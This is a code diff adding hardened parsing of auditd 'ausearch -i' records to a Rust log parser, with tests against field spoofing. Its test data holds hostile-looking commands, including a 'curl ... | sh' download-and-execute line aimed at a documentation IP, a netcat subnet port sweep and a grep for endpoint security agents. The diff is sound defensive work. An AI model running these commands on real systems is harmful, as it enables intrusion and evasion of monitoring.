@@ -154,7 +154,10 @@ pub fn parse(line: &str) -> Option<AuditLine<'_>> {
     // semanage's ROLE_* records name an account an administrator gave, followed by fields of
     // their own (`acct=bob old-seuser=...`); elsewhere `acct` is a login name a client typed.
     let client_account = interpreted && !rec.record_type.starts_with("ROLE_");
-    parse_fields(body, Reading { interpreted, execve, client_account }, &mut rec.fields);
+    let reading = Reading { interpreted, execve, client_account };
+    if !(interpreted && parse_interpreted(&rec.record_type, body, reading, &mut rec.fields)) {
+        parse_fields(body, reading, &mut rec.fields);
+    }
     if rec.record_type == "EXECVE" {
         rec.argv = collect_argv(&rec.fields, interpreted);
     }
@@ -255,6 +258,230 @@ fn parse_fields<'a>(body: &'a str, reading: Reading, out: &mut Vec<(&'a str, Cow
         };
         out.push((key, value));
     }
+}
+
+/// Pushes a value read by position (no quotes, no hex: `ausearch -i` decoded it); absent values
+/// (`(null)`, `?`, empty) are left out as in [`parse_fields`].
+fn push_value<'a>(out: &mut Vec<(&'a str, Cow<'a, str>)>, key: &'a str, raw: &'a str) {
+    if !(raw == "(null)" || raw == "?" || raw.is_empty()) {
+        out.push((key, Cow::Borrowed(raw)));
+    }
+}
+
+/// `ausearch -i` prints the text a user chose (arguments, proctitle, paths, `comm`, `exe`)
+/// decoded and unquoted, spaces and `=` included, so ` comm=cron` inside an argument reads like a
+/// field. For the records that carry such text, the kernel's field order (kernel/auditsc.c
+/// `audit_log_execve_info`, `audit_log_proctitle`, `audit_log_name`, `audit_log_exit`) tells where
+/// it ends instead: after it come only fields the kernel writes. False (nothing read) when the
+/// record is not of one of these types or not in the kernel's shape; it is then read as any other.
+fn parse_interpreted<'a>(
+    record_type: &str,
+    body: &'a str,
+    reading: Reading,
+    out: &mut Vec<(&'a str, Cow<'a, str>)>,
+) -> bool {
+    let body = body.trim_start_matches(' ');
+    let n = out.len();
+    let ok = match record_type {
+        // The only field, to the end of the line.
+        "PROCTITLE" => rest_of_line(body, "proctitle", out),
+        "CWD" => rest_of_line(body, "cwd", out),
+        "EXECVE" => interpreted_execve(body, out),
+        "PATH" => interpreted_path(body, reading, out),
+        "SYSCALL" => interpreted_syscall(body, reading, out),
+        _ => false,
+    };
+    if !ok {
+        out.truncate(n);
+    }
+    ok
+}
+
+/// `key=` then its value to the end of the line (ausearch ends every value with a space).
+fn rest_of_line<'a>(body: &'a str, key: &'a str, out: &mut Vec<(&'a str, Cow<'a, str>)>) -> bool {
+    let Some(value) = body.strip_prefix(key).and_then(|r| r.strip_prefix('=')) else { return false };
+    push_value(out, key, value.trim_end_matches(' '));
+    true
+}
+
+/// One EXECVE argument key: `aK=`, `aK_len=` or `aK[J]=` (length taken by the key and its `=`).
+#[derive(Clone, Copy)]
+enum ArgKey {
+    Whole(u32),
+    Len(u32),
+    Chunk(u32, u32),
+}
+
+fn arg_key(s: &str) -> Option<(ArgKey, usize)> {
+    let r = s.strip_prefix('a')?;
+    let digits = r.bytes().take_while(u8::is_ascii_digit).count();
+    let k: u32 = r[..digits].parse().ok()?;
+    let r = &r[digits..];
+    if r.starts_with('=') {
+        Some((ArgKey::Whole(k), digits + 2))
+    } else if r.starts_with("_len=") {
+        Some((ArgKey::Len(k), digits + 6))
+    } else {
+        let r = r.strip_prefix('[')?;
+        let j_digits = r.bytes().take_while(u8::is_ascii_digit).count();
+        let j: u32 = r[..j_digits].parse().ok()?;
+        r[j_digits..].starts_with("]=").then_some((ArgKey::Chunk(k, j), digits + j_digits + 4))
+    }
+}
+
+/// EXECVE: `argc=N a0=... a1=...` (long arguments as `aK_len=L aK[0]=... aK[1]=...`; a record
+/// continuing a long argv starts at its first argument, without `argc`). An argument runs to the
+/// first key that can follow it (` a{K+1}=`, or the next chunk), the last one to the end of the
+/// line: `argc` bounds the arguments, so text inside one can only move into another argument.
+fn interpreted_execve<'a>(body: &'a str, out: &mut Vec<(&'a str, Cow<'a, str>)>) -> bool {
+    let mut s = body;
+    let mut argc = None;
+    if let Some(r) = s.strip_prefix("argc=") {
+        let end = r.find(' ').unwrap_or(r.len());
+        let Ok(n) = r[..end].parse::<u32>() else { return false };
+        argc = Some(n);
+        out.push(("argc", Cow::Borrowed(&r[..end])));
+        s = r[end..].strip_prefix(' ').unwrap_or(&r[end..]);
+    }
+    if s.trim_end_matches(' ').is_empty() {
+        return argc.is_some();
+    }
+    let Some((mut arg, mut key_len)) = arg_key(s) else { return false };
+    loop {
+        let key = &s[..key_len - 1];
+        let value = &s[key_len..];
+        let next_arg = |k: u32| argc.is_none_or(|n| k + 1 < n).then(|| k + 1);
+        let mut marks = Vec::with_capacity(3);
+        match arg {
+            ArgKey::Whole(k) => marks.extend(next_arg(k).map(|k| format!(" a{k}="))),
+            ArgKey::Len(k) => marks.push(format!(" a{k}[0]=")),
+            ArgKey::Chunk(k, j) => {
+                marks.push(format!(" a{k}[{}]=", j + 1));
+                marks.extend(next_arg(k).map(|k| format!(" a{k}=")));
+            }
+        }
+        if let ArgKey::Whole(k) | ArgKey::Chunk(k, _) = arg {
+            marks.extend(next_arg(k).map(|k| format!(" a{k}_len=")));
+        }
+        match marks.iter().filter_map(|m| value.find(m.as_str())).min() {
+            Some(end) => {
+                push_value(out, key, &value[..end]);
+                s = &value[end + 1..];
+                // Every mark is an argument key.
+                let Some(next) = arg_key(s) else { return false };
+                (arg, key_len) = next;
+            }
+            None => {
+                push_value(out, key, value.trim_end_matches(' '));
+                return true;
+            }
+        }
+    }
+}
+
+/// Keys the kernel writes after a PATH record's `name` (`audit_log_name`, `audit_log_fcaps`;
+/// `objtype` in RHEL 7's kernel).
+fn path_tail_key(key: &str) -> bool {
+    matches!(key, "inode" | "dev" | "mode" | "ouid" | "ogid" | "rdev" | "obj" | "nametype" | "objtype")
+        || key.starts_with("cap_f")
+}
+
+/// PATH: `item=N name=...` then the kernel's own fields. `name` runs to the last ` inode=` (the
+/// kernel writes one, after the name); a record without an inode (a path that does not exist) has
+/// its name run to the last ` nametype=` (` objtype=`). Only a tail made of the kernel's PATH keys
+/// is taken as one, so a name holding ` inode=1 comm=cron` stays in `name`; the most a name can
+/// add are those keys (`inode`, `mode`, `ouid`, ...), never `comm`, `exe`, `key` or the uids.
+fn interpreted_path<'a>(body: &'a str, reading: Reading, out: &mut Vec<(&'a str, Cow<'a, str>)>) -> bool {
+    let Some(at) = body.find(" name=") else { return false };
+    let (head, name) = (&body[..at], &body[at + 6..]);
+    if !head.starts_with("item=") {
+        return false;
+    }
+    let mut tail = Vec::new();
+    let mut tail_at = |mark: &str| {
+        let i = name.rfind(mark)?;
+        tail.clear();
+        parse_fields(&name[i + 1..], reading, &mut tail);
+        tail.iter().all(|(k, _)| path_tail_key(k)).then_some(i)
+    };
+    let end = tail_at(" inode=").or_else(|| tail_at(" nametype=")).or_else(|| tail_at(" objtype="));
+    parse_fields(head, reading, out);
+    match end {
+        Some(i) => {
+            push_value(out, "name", &name[..i]);
+            out.append(&mut tail);
+        }
+        None => push_value(out, "name", name.trim_end_matches(' ')),
+    }
+    true
+}
+
+/// Bytes the kernel held for a `comm` ausearch printed as `s`, at least: tty escaping writes a
+/// control byte as `\ooo`, and any character stands for one byte or more.
+fn comm_len_at_least(s: &str) -> usize {
+    let b = s.as_bytes();
+    let mut n = 0;
+    let mut chars = s.char_indices();
+    while let Some((i, c)) = chars.next() {
+        if c == '\\' && b.len() >= i + 4 && b[i + 1..i + 4].iter().all(|d| (b'0'..=b'7').contains(d)) {
+            chars.nth(2);
+        }
+        n += 1;
+    }
+    n
+}
+
+/// TASK_COMM_LEN less the NUL.
+const COMM_MAX: usize = 15;
+
+/// SYSCALL: kernel fields, then `comm=C exe=E[ subj=S] key=K` (`audit_log_task_info`,
+/// `audit_log_key`); `comm` and `exe` are the user's choice.
+/// * `key` is last (several keys print as ` key=a key=b`): it starts at the last ` key=`, which
+///   no `exe` can be after. With several keys, the earlier ones stay in `subj` or `exe`: no
+///   text moves into another field, and rules on `key` or `exe` keep such an event.
+/// * `comm` holds at most 15 bytes, so the ` exe=` that ends it is one of those within that
+///   bound. When there are several (the comm or the exe path holds ` exe=`: a comm of
+///   `x exe=/usr/lib/` or an exe of `/tmp/ exe=/usr/lib/x`), the text cannot tell which one the
+///   kernel wrote, and either reading would give `exe` a path the user made up: `comm` then runs
+///   to the first and `exe` is left out (the event is kept by rules on `exe`).
+/// * `subj` (the LSM's label of the task, no user text) starts at the last ` subj=` before `key`.
+///   Without an LSM, an exe path holding ` subj=` ends there: a prefix of its own path, in a
+///   directory the user writes, so no path the user could not have run anyway.
+fn interpreted_syscall<'a>(body: &'a str, reading: Reading, out: &mut Vec<(&'a str, Cow<'a, str>)>) -> bool {
+    let Some(at) = body.find(" comm=") else { return false };
+    parse_fields(&body[..at], reading, out);
+    let rest = &body[at + 6..];
+    let (region, key) = match rest.rfind(" key=") {
+        Some(k) => (&rest[..k], Some(rest[k + 5..].trim_end_matches(' '))),
+        None => (rest.trim_end_matches(' '), None),
+    };
+    let mut within =
+        region.match_indices(" exe=").map(|(i, _)| i).take_while(|&i| comm_len_at_least(&region[..i]) <= COMM_MAX);
+    let (first, more) = (within.next(), within.next().is_some());
+    let subj_from = |from: usize| region[from..].rfind(" subj=").map(|i| from + i);
+    let (comm_end, exe, subj) = match first {
+        Some(e) if !more => {
+            let subj = subj_from(e + 5);
+            (e, Some(&region[e + 5..subj.unwrap_or(region.len())]), subj)
+        }
+        Some(e) => (e, None, subj_from(e + 5)),
+        // No exe (a kernel thread): comm runs to the subj.
+        None => {
+            let subj = subj_from(0);
+            (subj.unwrap_or(region.len()), None, subj)
+        }
+    };
+    push_value(out, "comm", &region[..comm_end]);
+    if let Some(exe) = exe {
+        push_value(out, "exe", exe);
+    }
+    if let Some(s) = subj {
+        push_value(out, "subj", &region[s + 6..]);
+    }
+    if let Some(key) = key {
+        push_value(out, "key", key);
+    }
+    true
 }
 
 /// Fields auditd may hex-encode (untrusted strings).
@@ -676,6 +903,305 @@ mod tests {
             "type=ROLE_ASSIGN msg=audit(11/22/2026 10:00:00.123:460) : pid=1 uid=root auid=alice ses=3 msg='op=login-mapping acct=bob old-seuser=? old-role=? old-range=? new-seuser=staff_u new-role=? new-range=s0 exe=/usr/sbin/semanage hostname=? addr=? terminal=pts/0 res=success'",
         );
         assert_eq!((r.get("acct"), r.get("new-seuser"), r.get("res")), (Some("bob"), Some("staff_u"), Some("success")));
+    }
+
+    /// `ausearch -i` lines of real events from Ubuntu hosts (AppArmor's `subj`, PATH with file
+    /// capabilities), as public write-ups show them (their redacted URL and subnet filled in), each
+    /// with the trailing space ausearch prints.
+    const AUSEARCH: &[&str] = &[
+        "type=PROCTITLE msg=audit(09/11/25 18:30:48.574:1132) : proctitle=wget https://example.org/downloads/beats/elastic-agent/elastic-agent-9.1.3-linux-x86_64.tar.gz ",
+        "type=CWD msg=audit(09/11/25 18:30:48.574:1132) : cwd=/home/itsupport ",
+        "type=EXECVE msg=audit(09/11/25 18:30:48.574:1132) : argc=2 a0=wget a1=https://example.org/downloads/beats/elastic-agent/elastic-agent-9.1.3-linux-x86_64.tar.gz ",
+        "type=SYSCALL msg=audit(09/11/25 18:30:48.574:1132) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x647c7d919620 a1=0x647c7d919560 a2=0x647c7d90f550 a3=0x647c7d8bf500 items=2 ppid=3759 pid=3787 auid=itsupport uid=itsupport gid=itsupport euid=itsupport suid=itsupport fsuid=itsupport egid=itsupport sgid=itsupport fsgid=itsupport tty=pts2 ses=170 comm=wget exe=/usr/bin/wget subj=unconfined key=exec ",
+        "type=PROCTITLE msg=audit(09/11/25 21:15:20.512:2283) : proctitle=nohup bash -c for ip in 10.10.12.0/24; do nc -zvw1 $ip 22 2>&1 | grep succeeded; done ",
+        "type=EXECVE msg=audit(09/11/25 21:13:37.725:2129) : argc=4 a0=/bin/sh a1=/usr/bin/egrep a2=--color=auto a3=falcon|sentinel|ds_agent ",
+        "type=PATH msg=audit(01/26/2023 13:47:38.727:1185) : item=1 name=/lib64/ld-linux-x86-64.so.2 inode=403317285 dev=08:02 mode=file,755 ouid=root ogid=root rdev=00:00 nametype=NORMAL cap_fp=none cap_fi=none cap_fe=0 cap_fver=0 cap_frootid=0 ",
+        "type=PATH msg=audit(01/26/2023 13:47:38.727:1185) : item=0 name=./process-cred-sample-adv inode=137438286 dev=08:03 mode=file,suid,775 ouid=sysadmin ogid=godev rdev=00:00 nametype=NORMAL cap_fp=none cap_fi=none cap_fe=0 cap_fver=0 cap_frootid=0 ",
+        "type=SYSCALL msg=audit(01/26/2023 13:47:38.727:1185) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x55e64d0712b0 a1=0x55e64d1fab50 a2=0x55e64d1ed380 a3=0x8 items=2 ppid=22490 pid=41229 auid=godev uid=godev gid=godev euid=sysadmin suid=sysadmin fsuid=sysadmin egid=godev sgid=godev fsgid=godev tty=pts3 ses=4 comm=process-cred-sa exe=/home/godev/backup/ruid-euid-suid-test/process-cred-sample-adv subj=unconfined key=new-uid-adv ",
+    ];
+
+    /// The corpus's raw records of one type, as `ausearch -i` prints them (values decoded, unquoted,
+    /// control bytes as `\ooo`; ENRICHED fields, which ausearch leaves out, dropped), with the
+    /// fields read from the raw record. Reading the printed line must give the same fields.
+    fn corpus_as_ausearch(record_type: &str) -> Vec<(String, Vec<(String, String)>)> {
+        let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpus/auditd");
+        let mut out = Vec::new();
+        let mut paths: Vec<_> = std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().path()).collect();
+        paths.sort();
+        for path in paths {
+            let bytes = std::fs::read(&path).unwrap();
+            for line in String::from_utf8_lossy(&bytes).lines() {
+                let Some(AuditLine::Record(r)) = parse(line) else { continue };
+                // (One file holds lines that several records were glued into.)
+                if r.record_type != record_type || r.interpreted || line.matches("msg=audit(").count() > 1 {
+                    continue;
+                }
+                let tty = |v: &str| {
+                    v.chars()
+                        .map(|c| if (c as u32) < 32 { format!("\\{:03o}", c as u32) } else { c.to_string() })
+                        .collect()
+                };
+                let fields: Vec<(String, String)> = r
+                    .fields
+                    .iter()
+                    // An empty quoted value prints as nothing: absent, as in any interpreted value.
+                    .filter(|(k, v)| !k.starts_with(|c: char| c.is_ascii_uppercase()) && !v.is_empty())
+                    // ausearch decodes each chunk of a long argument (kept hex here until joined).
+                    .map(|(k, v)| {
+                        (
+                            k.to_string(),
+                            tty(&if k.contains('[') { decode_hex(v, false) } else { None }.unwrap_or(v.to_string())),
+                        )
+                    })
+                    .collect();
+                let body: String = fields.iter().map(|(k, v)| format!("{k}={v} ")).collect();
+                let printed = format!("type={record_type} msg=audit(11/22/2026 10:00:00.123:{}) : {body}", r.serial);
+                out.push((printed, fields));
+            }
+        }
+        out
+    }
+
+    fn owned_fields(r: &AuditRecord<'_>) -> Vec<(String, String)> {
+        r.fields.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
+    }
+
+    /// Every corpus record of the type reads the same printed by `ausearch -i` as raw.
+    fn corpus_reads_the_same(record_type: &str, min: usize) {
+        let printed = corpus_as_ausearch(record_type);
+        assert!(printed.len() >= min, "{record_type}: {} records", printed.len());
+        for (line, fields) in &printed {
+            let r = rec(line);
+            assert!(r.interpreted);
+            assert_eq!(&owned_fields(&r), fields, "{line}");
+        }
+    }
+
+    /// Keys a record of these types may carry, whatever the user's text.
+    fn only_keys(r: &AuditRecord<'_>, allowed: impl Fn(&str) -> bool, line: &str) {
+        for (k, v) in &r.fields {
+            assert!(allowed(k), "`{k}={v}` read from the user's text: {line}");
+        }
+    }
+
+    #[test]
+    fn interpreted_proctitle_is_the_rest_of_the_line() {
+        let real = [
+            (
+                AUSEARCH[0],
+                "wget https://example.org/downloads/beats/elastic-agent/elastic-agent-9.1.3-linux-x86_64.tar.gz",
+            ),
+            (AUSEARCH[4], "nohup bash -c for ip in 10.10.12.0/24; do nc -zvw1 $ip 22 2>&1 | grep succeeded; done"),
+        ];
+        let injected = [
+            "sh -c curl -s http://203.0.113.9/x | sh ; true comm=cron",
+            "x key=noise auid=unset uid=root exe=/usr/sbin/cron",
+            "comm=cron",
+            "env A=1 B=2 make",
+        ];
+        let lines: Vec<(String, &str)> = real
+            .iter()
+            .map(|&(l, v)| (l.to_string(), v))
+            .chain(
+                injected
+                    .iter()
+                    .map(|&v| (format!("type=PROCTITLE msg=audit(11/22/2026 10:00:00.123:900) : proctitle={v} "), v)),
+            )
+            .collect();
+        for (line, proctitle) in &lines {
+            let r = rec(line);
+            assert_eq!(r.get("proctitle"), Some(*proctitle), "{line}");
+            assert_eq!(r.command().as_deref(), Some(*proctitle), "{line}");
+            only_keys(&r, |k| k == "proctitle", line);
+        }
+        corpus_reads_the_same("PROCTITLE", 40);
+    }
+
+    #[test]
+    fn interpreted_execve_arguments_end_at_the_next_argument() {
+        let cases: &[(&str, &[&str])] = &[
+            (
+                AUSEARCH[2],
+                &["wget", "https://example.org/downloads/beats/elastic-agent/elastic-agent-9.1.3-linux-x86_64.tar.gz"],
+            ),
+            (AUSEARCH[5], &["/bin/sh", "/usr/bin/egrep", "--color=auto", "falcon|sentinel|ds_agent"]),
+            (
+                "argc=3 a0=sh a1=-c a2=curl -s http://203.0.113.9/x | sh ; true comm=cron ",
+                &["sh", "-c", "curl -s http://203.0.113.9/x | sh ; true comm=cron"],
+            ),
+            // The last argument (argc says which) runs to the end, ` a2=` and all.
+            ("argc=2 a0=echo a1=x a2=y comm=cron key=noise", &["echo", "x a2=y comm=cron key=noise"]),
+            (
+                "argc=3 a0=a b a1=c exe=/usr/sbin/cron auid=root a2=d uid=root ",
+                &["a b", "c exe=/usr/sbin/cron auid=root", "d uid=root"],
+            ),
+            // Text that names the next argument moves into it, no further.
+            ("argc=3 a0=x a1=y comm=cron a1=z a2=w ", &["x", "y comm=cron a1=z", "w"]),
+            ("argc=2 a0=x a1=y a1=z comm=cron ", &["x", "y a1=z comm=cron"]),
+            // Long arguments in chunks, and the record that continues a long argv.
+            ("argc=2 a0=x a1_len=12 a1[0]=abc key=x a1[1]=def ", &["x", "abc key=xdef"]),
+            ("argc=3 a0=x a1_len=6 a1[0]=abc a1[1]=de comm=cron a2=z ", &["x", "abcde comm=cron", "z"]),
+            (" a5=foo comm=cron a6=bar key=noise", &["foo comm=cron", "bar key=noise"]),
+            ("argc=1 a0=(null) ", &[]),
+        ];
+        for &(body, argv) in cases {
+            let line = if body.starts_with("type=") {
+                body.to_string()
+            } else {
+                format!("type=EXECVE msg=audit(11/22/2026 10:00:00.123:900) : {body}")
+            };
+            let r = rec(&line);
+            assert_eq!(r.argv, argv, "{line}");
+            assert_eq!(r.command(), (!argv.is_empty()).then(|| Cow::Owned(argv.join(" "))), "{line}");
+            only_keys(
+                &r,
+                |k| k == "argc" || k.starts_with('a') && k[1..].starts_with(|c: char| c.is_ascii_digit()),
+                &line,
+            );
+            assert_eq!(r.get("comm"), None, "{line}");
+        }
+        corpus_reads_the_same("EXECVE", 40);
+        // The corpus's long argument, printed by ausearch: chunks joined as from the raw record.
+        let raw = corpus_as_ausearch("EXECVE").into_iter().find(|(l, _)| l.contains("a1_len=")).unwrap().0;
+        let long = rec(&raw).argv.iter().find(|a| a.len() > 1000).map(|a| a.to_string()).expect("chunks joined");
+        assert!(long.starts_with("baaaaaaaaa"), "{}", &long[..20]);
+    }
+
+    #[test]
+    fn interpreted_cwd_is_the_rest_of_the_line() {
+        for (line, cwd) in [
+            (AUSEARCH[1].to_string(), "/home/itsupport"),
+            (
+                "type=CWD msg=audit(11/22/2026 10:00:00.123:900) : cwd=/tmp/x comm=cron key=noise ".into(),
+                "/tmp/x comm=cron key=noise",
+            ),
+            ("type=CWD msg=audit(11/22/2026 10:00:00.123:900) : cwd=/home/u/My Files ".into(), "/home/u/My Files"),
+        ] {
+            let r = rec(&line);
+            assert_eq!(r.get("cwd"), Some(cwd), "{line}");
+            only_keys(&r, |k| k == "cwd", &line);
+        }
+        corpus_reads_the_same("CWD", 20);
+    }
+
+    #[test]
+    fn interpreted_path_name_ends_at_the_kernel_fields() {
+        let tail = " inode=1 dev=fd:00 mode=file,755 ouid=root ogid=root rdev=00:00 nametype=NORMAL cap_fp=none cap_fi=none cap_fe=0 cap_fver=0 cap_frootid=0 ";
+        let line = |name: &str, tail: &str| {
+            format!("type=PATH msg=audit(11/22/2026 10:00:00.123:900) : item=0 name={name}{tail}")
+        };
+        let cases = [
+            (AUSEARCH[6].to_string(), "/lib64/ld-linux-x86-64.so.2", Some("NORMAL")),
+            (AUSEARCH[7].to_string(), "./process-cred-sample-adv", Some("NORMAL")),
+            (line("/home/u/My Files/a b.txt", tail), "/home/u/My Files/a b.txt", Some("NORMAL")),
+            (line("/tmp/x comm=cron", tail), "/tmp/x comm=cron", Some("NORMAL")),
+            (line("/tmp/x inode=2 comm=cron key=noise", tail), "/tmp/x inode=2 comm=cron key=noise", Some("NORMAL")),
+            // A path that does not exist: no inode, the name runs to the kernel's nametype.
+            (
+                line(
+                    "/tmp/x inode=2 comm=cron",
+                    " nametype=UNKNOWN cap_fp=none cap_fi=none cap_fe=0 cap_fver=0 cap_frootid=0 ",
+                ),
+                "/tmp/x inode=2 comm=cron",
+                Some("UNKNOWN"),
+            ),
+            (
+                line("/tmp/x nametype=NORMAL exe=/usr/sbin/cron", " nametype=UNKNOWN "),
+                "/tmp/x nametype=NORMAL exe=/usr/sbin/cron",
+                Some("UNKNOWN"),
+            ),
+            // RHEL 7's kernel, and kernels before nametype.
+            (
+                line(
+                    "/tmp/a b uid=root",
+                    " inode=1 dev=fd:00 mode=file,755 ouid=root ogid=root rdev=00:00 obj=system_u:object_r:tmp_t:s0 objtype=NORMAL ",
+                ),
+                "/tmp/a b uid=root",
+                None,
+            ),
+            (
+                line(
+                    "/tmp/x nametype=NORMAL comm=cron",
+                    " inode=1 dev=fd:00 mode=file,755 ouid=root ogid=root rdev=00:00 ",
+                ),
+                "/tmp/x nametype=NORMAL comm=cron",
+                None,
+            ),
+            (line("/tmp/x comm=cron", " "), "/tmp/x comm=cron", None),
+        ];
+        let kernel = |k: &str| k == "item" || k == "name" || path_tail_key(k);
+        for (line, name, nametype) in &cases {
+            let r = rec(line);
+            assert_eq!((r.get("name"), r.get("nametype")), (Some(*name), *nametype), "{line}");
+            only_keys(&r, kernel, line);
+        }
+        let r = rec(AUSEARCH[7]);
+        assert_eq!((r.get("item"), r.get("mode"), r.get("ouid")), (Some("0"), Some("file,suid,775"), Some("sysadmin")));
+        // A name ending in a made-up inode block can only give these kernel keys.
+        let forged = line("/tmp/x inode=9 ouid=root", " nametype=UNKNOWN ");
+        let r = rec(&forged);
+        assert_eq!((r.get("name"), r.get("ouid")), (Some("/tmp/x"), Some("root")));
+        corpus_reads_the_same("PATH", 100);
+    }
+
+    #[test]
+    fn interpreted_syscall_comm_exe_and_key_by_position() {
+        let head = "type=SYSCALL msg=audit(11/22/2026 10:00:00.123:900) : arch=x86_64 syscall=execve success=yes exit=0 a0=0x1 a1=0x2 a2=0x3 a3=0x0 items=2 ppid=10 pid=11 auid=mallory uid=mallory gid=mallory euid=mallory suid=mallory fsuid=mallory egid=mallory sgid=mallory fsgid=mallory tty=pts0 ses=3 comm=";
+        type Case<'a> = (String, Option<&'a str>, Option<&'a str>, Option<&'a str>);
+        let case = |rest: &str, comm, exe, key| -> Case<'_> { (format!("{head}{rest}"), comm, exe, key) };
+        let cases: Vec<Case<'_>> = vec![
+            (AUSEARCH[3].to_string(), Some("wget"), Some("/usr/bin/wget"), Some("exec")),
+            (
+                AUSEARCH[8].to_string(),
+                Some("process-cred-sa"),
+                Some("/home/godev/backup/ruid-euid-suid-test/process-cred-sample-adv"),
+                Some("new-uid-adv"),
+            ),
+            case("sh exe=/usr/bin/dash key=exec ", Some("sh"), Some("/usr/bin/dash"), Some("exec")),
+            case("cron exe=/usr/sbin/cron key=(null) ", Some("cron"), Some("/usr/sbin/cron"), None),
+            // The exe path is the user's: it runs to the kernel's subj and key.
+            case(
+                "x exe=/tmp/x comm=cron key=noise key=exec ",
+                Some("x"),
+                Some("/tmp/x comm=cron key=noise"),
+                Some("exec"),
+            ),
+            case("x exe=/tmp/x uid=root subj=unconfined key=exec ", Some("x"), Some("/tmp/x uid=root"), Some("exec")),
+            case(
+                "x exe=/home/u/dir exe=/usr/sbin/cron key=(null) ",
+                Some("x"),
+                Some("/home/u/dir exe=/usr/sbin/cron"),
+                None,
+            ),
+            // So is the comm (15 bytes at most, spaces allowed).
+            case("a comm=cron exe=/tmp/a key=(null) ", Some("a comm=cron"), Some("/tmp/a"), None),
+            case("a b key=noise exe=/tmp/a key=exec ", Some("a b key=noise"), Some("/tmp/a"), Some("exec")),
+            case("x auid=root exe=/tmp/a key=exec ", Some("x auid=root"), Some("/tmp/a"), Some("exec")),
+            case(
+                "\\001\\002\\003\\004\\005\\006\\007\\010\\011\\012\\013\\014\\015\\016\\017 exe=/tmp/a key=exec ",
+                Some("\\001\\002\\003\\004\\005\\006\\007\\010\\011\\012\\013\\014\\015\\016\\017"),
+                Some("/tmp/a"),
+                Some("exec"),
+            ),
+            // Two ` exe=` within 15 bytes of the comm: either could be the kernel's, so no exe.
+            case("x exe=/usr/lib/ exe=/tmp/evil key=exec ", Some("x"), None, Some("exec")),
+            case("a exe=/tmp/ exe=/usr/lib/evil key=exec ", Some("a"), None, Some("exec")),
+            // Several keys: the last one.
+            case("ls exe=/usr/bin/ls subj=unconfined key=a key=b ", Some("ls"), Some("/usr/bin/ls"), Some("b")),
+        ];
+        let allowed = |k: &str| !matches!(k, "name" | "proctitle" | "cwd" | "argc" | "acct");
+        for (line, comm, exe, key) in &cases {
+            let r = rec(line);
+            assert_eq!((r.get("comm"), r.get("exe"), r.get("key")), (*comm, *exe, *key), "{line}");
+            assert_eq!(r.fields.iter().filter(|(k, _)| *k == "auid" || *k == "uid").count(), 2, "{line}");
+            only_keys(&r, allowed, line);
+        }
+        let r = rec(AUSEARCH[8]);
+        assert_eq!(
+            (r.get("auid"), r.get("euid"), r.get("subj")),
+            (Some("godev"), Some("sysadmin"), Some("unconfined"))
+        );
+        corpus_reads_the_same("SYSCALL", 100);
     }
 
     #[test]
